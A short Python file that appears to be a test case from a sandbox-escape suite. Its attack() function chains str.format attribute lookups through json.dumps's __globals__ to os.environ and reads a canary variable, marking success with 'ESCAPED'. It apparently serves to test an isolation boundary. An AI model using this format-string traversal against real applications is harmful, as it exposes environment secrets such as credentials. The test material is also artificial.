"""No app reads attributes by a format that is called later."""

CLASS = "format"
BOUNDARY = "both"
NEEDS = ("functools", "json")


import functools
import json


def attack():
    call = functools.partial(str.format, "{0.__globals__[codecs].sys.modules[os].environ[VAAS_CANARY]}")
    return "ESCAPED: " + call(json.dumps)
